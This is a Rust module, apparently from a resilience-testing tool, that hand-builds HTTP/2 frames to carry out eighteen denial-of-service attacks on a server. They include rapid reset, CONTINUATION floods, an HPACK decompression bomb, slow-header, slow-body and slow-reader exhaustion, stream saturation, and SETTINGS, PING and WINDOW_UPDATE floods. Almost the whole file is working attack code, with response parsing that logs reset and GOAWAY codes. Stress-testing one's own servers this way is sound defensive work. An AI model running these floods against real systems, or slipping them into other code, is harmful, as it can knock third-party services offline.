//! The attacks over HTTP/2: frames by hand, as no library would send them, and what comes back read just far enough.
use std::io;
use std::time::Duration;

use tokio::io::AsyncReadExt;
use tokio::time::{Instant, timeout, timeout_at};

use super::attacks::{Done, PAUSE, Stream, send, sip};

pub const KINDS: [&str; 18] = [
    "handshakes",
    "slow-heads-h2",
    "slow-bodies-h2",
    "slow-readers-h2",
    "large-heads-h2",
    "hpack-bomb",
    "too-many-streams",
    "held",
    "rapid-reset",
    "paced-reset",
    "continuation",
    "settings",
    "ping",
    "ping-acks",
    "window-update",
    "empty-data",
    "priority",
    "unknown-frames",
];

pub const DATA: u8 = 0;
pub const HEADERS: u8 = 1;
const PRIORITY: u8 = 2;
const RESET: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const GOAWAY: u8 = 7;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
pub const END_STREAM: u8 = 1;
const ACK: u8 = 1;
pub const END_HEADERS: u8 = 4;

/// Answers, as the first of a connection begin that say so: `:status` as a literal, in Huffman's code (RFC 7541, appendix B).
const TOLD: [(&str, [u8; 5]); 3] = [
    ("413", [0x48, 0x83, 0x68, 0x2c, 0xff]),
    ("414", [0x48, 0x83, 0x68, 0x2d, 0x7f]),
    ("503", [0x48, 0x83, 0x6c, 0x0c, 0xff]),
];
const FLOOD_PIECE: usize = 32 * 1024;
const LARGEST_FRAME: usize = 16_384;
/// Requests of a connection at a time, as many as the edge allows.
const STREAMS: u32 = 128;
/// Bodies that trickle on one connection.
const BODIES: u32 = 8;
/// Of those that wait for their client, so many are granted a byte now and then.
const SIPS: u32 = 16;
/// Requests that are reset together, and how long each is let live.
const PACED: u32 = 10;
pub const LIVES: Duration = Duration::from_millis(5);
/// As long as one connection floods.
const LASTS: Duration = Duration::from_secs(60);

/// One connection's worth of an attack; an error where the other side ended it.
pub async fn once(
    kind: &str,
    stream: &mut dyn Stream,
    from: u32,
    blank: bool,
    done: &Done,
) -> io::Result<()> {
    let mut ear = Ear::default();
    match kind {
        "handshakes" => Ok(()),
        "slow-heads-h2" => {
            // Half a head, and never the rest.
            let half = [preface(&[]), frame(HEADERS, 0, 1, &get("/1k")[..4])].concat();
            send(stream, &half, done).await?;
            loop {
                ear.hear(stream, PAUSE, done).await?;
            }
        }
        "slow-bodies-h2" => {
            let mut bytes = preface(&[]);
            let streams: Vec<u32> = (0..BODIES).map(|number| 2 * number + 1).collect();
            for id in &streams {
                bytes.extend(frame(HEADERS, END_HEADERS, *id, &fields(0x83, "/")));
            }
            send(stream, &bytes, done).await?;
            let mut left = streams;
            while !left.is_empty() {
                let drops: Vec<u8> = left
                    .iter()
                    .flat_map(|id| frame(DATA, 0, *id, b"x"))
                    .collect();
                send(stream, &drops, done).await?;
                let over = ear.hear(stream, PAUSE, done).await?;
                left.retain(|id| !over.contains(id));
            }
            Err(io::ErrorKind::ConnectionAborted.into())
        }
        "slow-readers-h2" => {
            // Every other one does not read its socket, the rest do and grant no stream more than this.
            let window: u32 = if from.is_multiple_of(2) {
                1_000
            } else {
                1 << 24
            };
            let mut bytes = wide(window);
            (0..STREAMS).for_each(|number| bytes.extend(asked(2 * number + 1, "/10m")));
            send(stream, &bytes, done).await?;
            if !from.is_multiple_of(2) {
                return sip(stream, blank).await;
            }
            let (mut over, mut turn) = (Vec::new(), 0);
            while over.len() < STREAMS as usize {
                over.extend(ear.hear(stream, PAUSE, done).await?);
                let granted: Vec<u8> = (0..SIPS)
                    .map(|number| 2 * ((turn + number) % STREAMS) + 1)
                    .filter(|id| !over.contains(id))
                    .flat_map(|id| frame(WINDOW_UPDATE, 0, id, &1u32.to_be_bytes()))
                    .collect();
                send(stream, &granted, done).await?;
                turn += SIPS;
            }
            Err(io::ErrorKind::ConnectionAborted.into())
        }
        "large-heads-h2" => {
            let mut block = get("/1k");
            (0..36).for_each(|number| block.extend(field(&format!("x-{number}"), 1_000)));
            send(stream, &wide(1 << 24), done).await?;
            for number in 0.. {
                send(stream, &head(2 * number + 1, &block), done).await?;
                while !blank && ear.hear(stream, LIVES, done).await?.is_empty() {}
            }
            Ok(())
        }
        "hpack-bomb" => {
            // One field that is kept, and then named over and over by a byte each: 36 MB in a frame.
            let mut block = get("/1k");
            let kept = field("x", 3_000);
            block.push(0x40);
            block.extend(&kept[1..]);
            block.resize(block.len() + 12_000, 0x80 | 62);
            send(stream, &wide(1 << 24), done).await?;
            for number in 0.. {
                send(stream, &head(2 * number + 1, &block), done).await?;
                while !blank && ear.hear(stream, LIVES, done).await?.is_empty() {}
            }
            Ok(())
        }
        "too-many-streams" | "held" => {
            let path = if kind == "held" { "/held" } else { "/app/wait" };
            let (mut next, mut free) = (1, STREAMS);
            send(stream, &wide(1 << 24), done).await?;
            loop {
                // Whoever is refused asks again.
                let mut bytes = Vec::new();
                for _ in 0..free {
                    bytes.extend(asked(next, path));
                    next += 2;
                }
                send(stream, &bytes, done).await?;
                free = ear.hear(stream, 4 * LIVES, done).await?.len() as u32;
            }
        }
        "paced-reset" => {
            send(stream, &preface(&[]), done).await?;
            let mut next = 1;
            loop {
                let streams: Vec<u32> = (0..PACED).map(|number| next + 2 * number).collect();
                next += 2 * PACED;
                let asks: Vec<u8> = streams.iter().flat_map(|id| asked(*id, "/wait")).collect();
                send(stream, &asks, done).await?;
                ear.hear(stream, LIVES, done).await?;
                let resets: Vec<u8> = streams.iter().flat_map(|id| reset(*id)).collect();
                send(stream, &resets, done).await?;
            }
        }
        flood => flooded(flood, stream, &mut ear, done).await,
    }
}

/// Frames of one kind without end; what comes back is read and forgotten.
async fn flooded(
    kind: &str,
    stream: &mut dyn Stream,
    ear: &mut Ear,
    done: &Done,
) -> io::Result<()> {
    let (mut next, begun) = (1, Instant::now());
    send(stream, &preface(&[]), done).await?;
    if kind == "continuation" {
        send(stream, &frame(HEADERS, END_STREAM, 1, &get("/1k")), done).await?;
    }
    if kind == "empty-data" {
        let post = fields(0x83, "/1k");
        send(stream, &frame(HEADERS, END_HEADERS, 1, &post), done).await?;
    }
    while begun.elapsed() < LASTS && next < 1_000_000_000 {
        let mut piece = Vec::with_capacity(FLOOD_PIECE + 64);
        while piece.len() < FLOOD_PIECE {
            match kind {
                "rapid-reset" => {
                    piece.extend(asked(next, "/1k"));
                    piece.extend(reset(next));
                    next += 2;
                }
                "continuation" => piece.extend(frame(CONTINUATION, 0, 1, b"\x40\x01a\x01b")),
                "settings" => piece.extend(frame(SETTINGS, 0, 0, b"\0\x03\0\0\0\x64")),
                "ping" => piece.extend(frame(PING, 0, 0, &[7; 8])),
                "ping-acks" => piece.extend(frame(PING, ACK, 0, &[7; 8])),
                "window-update" => piece.extend(frame(WINDOW_UPDATE, 0, 0, &1u32.to_be_bytes())),
                "empty-data" => piece.extend(frame(DATA, 0, 1, b"")),
                "priority" => piece.extend(frame(PRIORITY, 0, 1, &[0, 0, 0, 0, 16])),
                _ => piece.extend(frame(0xfa, 0, 0, b"")),
            }
        }
        send(stream, &piece, done).await?;
        ear.hear(stream, Duration::ZERO, done).await?;
        tokio::task::yield_now().await;
    }
    Ok(())
}

/// What the other side says, as far as it has been read.
#[derive(Default)]
pub struct Ear {
    read: Vec<u8>,
}

impl Ear {
    /// Listens so long; the streams that ended meanwhile. An error where the connection is over.
    pub async fn hear(
        &mut self,
        stream: &mut dyn Stream,
        long: Duration,
        done: &Done,
    ) -> io::Result<Vec<u32>> {
        let (until, mut over) = (Instant::now() + long, Vec::new());
        let mut piece = vec![0; 16 * 1024];
        while over.is_empty() || Instant::now() < until {
            let reading = stream.read(&mut piece);
            // A moment that has passed already still takes what is there.
            let read = match long.is_zero() {
                true => timeout(long, reading).await,
                false => timeout_at(until, reading).await,
            };
            match read {
                Err(_) => break,
                Ok(Ok(count @ 1..)) => self.read.extend_from_slice(&piece[..count]),
                Ok(_) => return Err(io::ErrorKind::ConnectionAborted.into()),
            }
            let mut at = 0;
            while let Some((head, rest)) = self.read[at..].split_first_chunk::<9>()
                && let [a, b, c, kind, flags, id @ ..] = *head
                && let length = u32::from_be_bytes([0, a, b, c]) as usize
                && rest.len() >= length
            {
                at += 9 + length;
                let id = u32::from_be_bytes(id);
                match kind {
                    HEADERS | DATA if flags & END_STREAM > 0 => over.push(id),
                    RESET => {
                        done.heard(&format!("RST_STREAM {}", code(rest, 0)));
                        over.push(id);
                    }
                    GOAWAY => {
                        done.heard(&format!("GOAWAY {}", code(rest, 4)));
                        return Err(io::ErrorKind::ConnectionAborted.into());
                    }
                    _ => {}
                }
                if kind == HEADERS {
                    done.heard(told(&rest[..length]));
                }
            }
            self.read.drain(..at);
            if long.is_zero() {
                break;
            }
        }
        Ok(over)
    }
}

/// What an answer says, if that is among what is listened for.
fn told(head: &[u8]) -> &'static str {
    let is_told = |(_, field): &&(&str, [u8; 5])| head.starts_with(field);
    TOLD.iter().find(is_told).map_or("answer", |(said, _)| said)
}

/// The error that a frame tells of, by its name.
fn code(payload: &[u8], at: usize) -> String {
    let code = payload.get(at..).and_then(<[u8]>::first_chunk::<4>);
    match code.map(|code| u32::from_be_bytes(*code)) {
        Some(0) => "NO_ERROR".into(),
        Some(1) => "PROTOCOL_ERROR".into(),
        Some(7) => "REFUSED_STREAM".into(),
        Some(8) => "CANCEL".into(),
        Some(11) => "ENHANCE_YOUR_CALM".into(),
        other => format!("{other:?}"),
    }
}

/// What a connection begins with; the settings are pairs of a number and a value.
pub fn preface(settings: &[(u16, u32)]) -> Vec<u8> {
    let mut bytes = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    let pairs = settings.iter();
    let payload: Vec<u8> = pairs
        .flat_map(|(number, value)| [&number.to_be_bytes()[..], &value.to_be_bytes()].concat())
        .collect();
    bytes.extend(frame(SETTINGS, 0, 0, &payload));
    bytes
}

/// The same, with this window for each stream and as large a one as there can be for all of them.
fn wide(window: u32) -> Vec<u8> {
    let all = (1u32 << 31) - 1 - 65_535;
    [
        preface(&[(4, window)]),
        frame(WINDOW_UPDATE, 0, 0, &all.to_be_bytes()),
    ]
    .concat()
}

/// `:method GET, :scheme https, :path, :authority localhost` in HPACK.
fn get(path: &str) -> Vec<u8> {
    fields(0x82, path)
}

pub fn fields(method: u8, path: &str) -> Vec<u8> {
    let mut block = vec![method, 0x87, 0x04, path.len() as u8];
    block.extend(path.as_bytes());
    block.extend(b"\x01\x09localhost");
    block
}

/// A field with so long a value, as a literal that is not kept (RFC 7541, 6.2.2).
fn field(name: &str, length: usize) -> Vec<u8> {
    let mut block = vec![0, name.len() as u8];
    block.extend(name.as_bytes());
    block.extend(literal(length));
    block
}

/// A string of so many bytes, a path as well, not in Huffman's code.
pub fn literal(length: usize) -> Vec<u8> {
    // A number with a prefix of seven bits (5.1); from 255 up to 16,510.
    let rest = length - 127;
    let mut string = vec![127, 128 | (rest % 128) as u8, (rest / 128) as u8, b'/'];
    string.resize(3 + length, b'a');
    string
}

/// A whole request without a body.
pub fn asked(stream: u32, path: &str) -> Vec<u8> {
    head(stream, &get(path))
}

/// `HEADERS`, and `CONTINUATION` for what does not fit.
fn head(stream: u32, block: &[u8]) -> Vec<u8> {
    let (mut bytes, count) = (Vec::new(), block.len().div_ceil(LARGEST_FRAME));
    for (number, piece) in block.chunks(LARGEST_FRAME).enumerate() {
        let last = if number + 1 == count { END_HEADERS } else { 0 };
        bytes.extend(match number {
            0 => frame(HEADERS, END_STREAM | last, stream, piece),
            _ => frame(CONTINUATION, last, stream, piece),
        });
    }
    bytes
}

fn reset(stream: u32) -> Vec<u8> {
    frame(RESET, 0, stream, &8u32.to_be_bytes())
}

pub fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = (payload.len() as u32).to_be_bytes();
    let mut bytes = length[1..].to_vec();
    bytes.extend([kind, flags]);
    bytes.extend(stream.to_be_bytes());
    bytes.extend(payload);
    bytes
}
